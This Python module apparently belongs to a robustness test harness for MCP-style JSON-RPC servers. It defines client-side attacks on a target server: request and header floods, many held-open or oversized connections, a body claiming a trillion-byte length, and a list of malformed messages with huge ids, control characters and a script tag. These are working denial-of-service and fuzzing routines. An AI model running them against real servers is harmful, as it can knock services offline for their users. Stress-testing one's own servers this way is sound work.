"""Attacks of a client on the server that it was given, over HTTP or through the port behind a relay."""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Callable
from contextlib import suppress
from typing import Any, Final
from urllib.parse import urlsplit

Json = dict[str, Any]
MODERN: Final = "2026-07-28"
SECONDS: Final = 1.0
CONNECTIONS: Final = 2000
KEPT: Final[list[socket.socket]] = []

SEARCH: Final[Json] = {"jsonrpc": "2.0", "id": 1, "method": "tools/search", "params": {"query": "x"}}
STRANGE: Final[list[Any]] = [
    [],
    1,
    {"jsonrpc": "2.0", "id": 1},
    {"jsonrpc": "2.0", "id": 1, "method": []},
    {"jsonrpc": "2.0", "id": 1, "method": {}},
    {"jsonrpc": "2.0", "id": 1, "method": None},
    {"jsonrpc": "2.0", "id": 1, "method": "tools/search", "params": []},
    {"jsonrpc": "2.0", "id": 1, "method": "tools/search", "params": {"query": ["x"], "cursor": {}, "limit": 1e308}},
    {"jsonrpc": "2.0", "id": 1, "method": "tools/search", "params": {"query": "x", "cursor": "9" * 5000, "_meta": []}},
    {"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {"cursor": "listed " + "9" * 5000}},
    {"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {"cursor": "listed ٣"}},
    {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": [], "capabilities": "all"}},
    {"jsonrpc": "2.0", "id": 1, "method": "server/discover", "params": "none"},
    {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": {}}},
    {"jsonrpc": "2.0", "id": 1, "method": "\x1b[2J<script>", "params": {"query": "\ud800"}},
    {"jsonrpc": "2.0", "id": [[]], "method": "subscriptions/listen"},
    {"jsonrpc": "2.0", "method": "subscriptions/listen"},
    {"jsonrpc": "2.0", "id": "x" * 200_000, "method": "y" * 20_000},
]


class Line:
    """One connection to the peer, over either transport."""

    def __init__(self, target: Json) -> None:
        self.http = target["transport"] == "http"
        if self.http:
            url = urlsplit(str(target["url"]))
            host, port, self._path = url.hostname or "", url.port or 0, url.path
        else:
            host, port, self._path = map(str, target["args"][-3:])
        self.socket = socket.create_connection((host, int(port)), 5)
        self.socket.settimeout(SECONDS)
        if not self.http:
            self.socket.sendall(self._path.encode() + b"\n")

    def framed(self, body: bytes) -> bytes:
        return self.head(f"Content-Length: {len(body)}") + body if self.http else body + b"\n"

    def head(self, *headers: str) -> bytes:
        named = ("Host: 127.0.0.1:1", "Content-Type: application/json", f"MCP-Protocol-Version: {MODERN}", *headers)
        return "\r\n".join([f"POST {self._path} HTTP/1.1", *named, "", ""]).encode()

    def flood(self, chunk: bytes) -> None:
        """Send for a while, and read nothing unless there is no other way on."""
        until = time.monotonic() + SECONDS
        with suppress(OSError):
            while time.monotonic() < until:
                self.socket.sendall(chunk)


def requests(target: Json) -> None:
    line = Line(target)
    chunk = line.framed(json.dumps(SEARCH).encode()) * 500
    line.flood(chunk)


def bodies(target: Json) -> None:
    """Send large requests on many connections at once, and read no answer."""
    body = json.dumps({**SEARCH, "params": {"query": "x", "y": [0] * 9_000 + ["z" * 200_000]}}).encode()
    for _ in range(100):
        line = Line(target)
        KEPT.append(line.socket)
        with suppress(OSError):
            line.socket.settimeout(0.01)
            line.socket.sendall(line.framed(body) * 20)


def endless(target: Json) -> None:
    line = Line(target)
    with suppress(OSError):
        line.socket.sendall(line.head("Content-Length: 1000000000000") if line.http else b"")
    line.flood(b"x" * 65536)


def connections(target: Json) -> None:
    """Open very many connections, begin a request on each and hold them open."""
    for _ in range(CONNECTIONS):
        with suppress(OSError):
            line = Line(target)
            KEPT.append(line.socket)
            line.socket.sendall(line.head("Content-Length: 1000") if line.http else b"{")


def heads(target: Json) -> None:
    Line(target).flood(b"X-Header: " + b"x" * 1000 + b"\r\n")


def strange(target: Json) -> None:
    for message in STRANGE:
        line = Line(target)
        with suppress(OSError):
            line.socket.sendall(line.framed(json.dumps(message).encode()))
            line.socket.settimeout(0.05)
            line.socket.recv(65536)


def strays(target: Json) -> None:
    """Search for what nobody was asked to search for, by a cursor that nobody issued too, and read the answers."""
    for params in ({"query": "x"}, {"query": "x", "cursor": "y"}):
        line = Line(target)
        with suppress(OSError):
            line.socket.sendall(line.framed(json.dumps({**SEARCH, "params": params}).encode()))
            line.socket.recv(65536)


ATTACKS: Final[dict[str, Callable[[Json], None]]] = {
    attack.__name__: attack for attack in (requests, bodies, endless, connections, heads, strange, strays)
}
